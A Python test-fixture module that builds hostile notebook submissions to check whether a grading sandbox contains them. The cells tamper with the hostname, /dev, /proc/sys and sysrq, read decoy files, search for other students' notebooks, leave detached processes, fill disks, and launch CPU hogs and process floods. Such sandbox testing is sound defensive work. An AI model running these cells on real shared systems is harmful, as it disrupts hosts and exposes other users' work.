"""Hostile `mini` submissions that go after the grading machine itself (test_grading_sandbox.py).

Each is a notebook with honest answers (so the grade it deserves is known) and one more cell,
after answer_mse (before any test, so feedback shows what it printed), that attacks the host
and prints what it managed as `PROBES <base64 of JSON>` (`probes(feedback_text)` reads it).
TOKEN marks everything an attack leaves behind (files, processes, a System V key), so the test
can look for it on the host.
"""

from __future__ import annotations

import base64
import json
import re

from .variants import Variant, nb, with_cell

REPORT = '''
import base64 as _b64
print("PROBES", _b64.b64encode(json.dumps(_probes, sort_keys=True).encode()).decode())
'''

HOST = '''import ctypes, json, os, socket, subprocess, sys

_probes = {}
TOKEN = "__TOKEN__"


def _try(label, fn):
    try:
        _probes[label] = "DONE:" + str(fn())
    except Exception as err:
        _probes[label] = "blocked:" + type(err).__name__


def _write(path):
    with open(path, "w") as f:
        f.write("x")
    return path


_probes["hostname"] = socket.gethostname()
_try("sethostname", lambda: socket.sethostname("pwned-" + TOKEN))
_try("dev_write", lambda: _write("/dev/eep596gan-" + TOKEN))
_try("dev_shm_write", lambda: _write("/dev/shm/eep596gan-" + TOKEN))
_try("dev_chmod", lambda: os.chmod("/dev/null", 0o666))
_try("dev_unlink", lambda: os.unlink("/dev/full"))
_probes["dev"] = ",".join(sorted(os.listdir("/dev")))
_libc = ctypes.CDLL(None, use_errno=True)
_id = _libc.shmget(__SHM_KEY__, 1 << 20, 0o1000 | 0o600)  # IPC_CREAT: left behind on purpose
_probes["shm"] = f"DONE:{_id}" if _id >= 0 else f"blocked:errno {ctypes.get_errno()}"
_probes["proc_sys_access_w"] = str(os.access("/proc/sys/vm/swappiness", os.W_OK))


def _sysctl_same():
    with open("/proc/sys/vm/swappiness") as f:
        value = f.read()
    with open("/proc/sys/vm/swappiness", "w") as f:  # the same value back: harmless if it works
        f.write(value)


_try("proc_sys_write", _sysctl_same)
_try("sysrq_open", lambda: open("/proc/sysrq-trigger", "w").close())
_try("sys_write", lambda: _write("/sys/kernel/mm/transparent_hugepage/enabled"))
_probes["top"] = ",".join(sorted(os.listdir("/")))
for _label, _path in DECOYS.items():
    _try(_label, lambda p=_path: open(p).read(200))
_allowed = [os.path.realpath(p) + "/" for p in (sys.prefix, sys.base_prefix, os.getcwd())]
_found, _outside = 0, []
for _dir, _dirs, _files in os.walk("/"):
    if _dir in ("/proc", "/sys", "/dev"):
        _dirs[:] = []
        continue
    for _name in _files + _dirs:
        _path = os.path.join(_dir, _name)
        if TOKEN in _path:
            _outside.append("DECOY:" + _path)
        if _name.endswith(".ipynb"):
            _found += 1
            if not any(_path.startswith(a) for a in _allowed):
                _outside.append(_path)
_probes["notebooks_seen"] = str(_found)
_probes["notebooks_outside"] = ",".join(_outside[:50])
_survivor = f"import time  # survivor-{TOKEN}\\nwhile True: time.sleep(1)"
_try("survivor", lambda: subprocess.Popen([sys.executable, "-c", _survivor],
                                          start_new_session=True).pid)
''' + REPORT

FILL = '''import json, os, signal, sys

_probes = {}
TOKEN = "__TOKEN__"
CHUNK, CAP, PER_FILE = 8 << 20, 1500 << 20, 128 << 20
_block = b"x" * CHUNK
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # past RLIMIT_FSIZE: an error, not death


def _fill(folder):
    """Bytes written into folder (new files every PER_FILE) until an error or CAP."""
    total, n = 0, 0
    try:
        while total < CAP:
            with open(os.path.join(folder, f"fill-{TOKEN}-{n}"), "wb") as f:
                n += 1
                for _ in range(PER_FILE // CHUNK):
                    f.write(_block)
                    f.flush()
                    total += CHUNK
    except Exception as err:
        return f"{total}:{type(err).__name__}"
    return f"{total}:cap"


def _fd(fd):
    total = 0
    try:
        while total < CAP:
            total += os.write(fd, _block)
    except Exception as err:
        return f"{total}:{type(err).__name__}"
    return f"{total}:cap"


_conn = sys.argv[sys.argv.index("-f") + 1]
for _label, _folder in [("sockets", os.path.dirname(_conn)), ("cwd", os.getcwd()),
                        ("tmp", "/tmp"), ("dev_shm", "/dev/shm"), ("var_tmp", "/var/tmp"),
                        ("root", "/"), ("home", os.path.expanduser("~")),
                        ("package", os.path.dirname(json.__file__))]:
    _probes[_label] = _fill(_folder)
_log = getattr(sys.stdout, "_original_stdstream_copy", None)  # ipykernel forwards fd 1 itself
_probes["log_fd"] = _fd(_log if isinstance(_log, int) else 1)
''' + REPORT

HOG = '''import json, os, subprocess, sys, time

_probes = {}
TOKEN = "__TOKEN__"
_code = f"# hog-{TOKEN}\\nwhile True: pass"
_hogs = [subprocess.Popen([sys.executable, "-c", _code], start_new_session=True)  # one
         for _ in range(48)]  # scheduler autogroup each, where the kernel groups by session
time.sleep(__SECONDS__)
_probes["hogs"] = str(sum(p.poll() is None for p in _hogs))
for p in _hogs:
    p.kill()
    p.wait()
_flood = []
try:
    for _ in range(600):
        _flood.append(subprocess.Popen(["sleep", "60"]))
except Exception as err:
    _probes["flood_error"] = type(err).__name__
_probes["flood"] = str(len(_flood))
for p in _flood:
    p.kill()
    p.wait()
''' + REPORT

SLEEPER = "import time\ntime.sleep(__SECONDS__)"


def _variant(student_id, code, deserved, **answers):
    notebook = with_cell(nb(**answers), code, after="answer_mse")  # shown: before any test
    return Variant(student_id, notebook, deserved, "graded")


def host_probe(student_id, token: str, shm_key: int, decoys: dict[str, str]) -> Variant:
    """A wrong mse (it deserves 3) with a cell that writes /dev, /proc/sys and /sys, leaves a
    System V segment and a detached process, sets the host name and looks for notebooks."""
    code = (HOST.replace("__TOKEN__", token).replace("__SHM_KEY__", str(shm_key))
            .replace("DECOYS", repr(decoys)))
    return _variant(student_id, code, 3, mse="def mse(x, y):\n    return 0.0")


def filler(student_id, token: str) -> Variant:
    """A wrong clip01 (it deserves 2) that writes as much as it can everywhere it can."""
    return _variant(student_id, FILL.replace("__TOKEN__", token), 2,
                    clip="def clip01(x):\n    return np.asarray(x, dtype=float)")


def hog(student_id, token: str, seconds: float) -> Variant:
    """Right answers (5) and 48 CPU-burning children for `seconds`, then a process flood."""
    code = HOG.replace("__TOKEN__", token).replace("__SECONDS__", str(seconds))
    return _variant(student_id, code, 5)


def sleeper(student_id, seconds: float) -> Variant:
    """Right answers (5) and a cell that sleeps as long as the hog burns: the quiet baseline."""
    return _variant(student_id, SLEEPER.replace("__SECONDS__", str(seconds)), 5)


def probes(text: str) -> dict[str, str]:
    """The probes a hostile cell printed, from the text of its feedback page."""
    found = re.search(r"PROBES ([A-Za-z0-9+/=]+)", text)
    return json.loads(base64.b64decode(found.group(1))) if found else {}


__all__ = ["host_probe", "filler", "hog", "sleeper", "probes"]
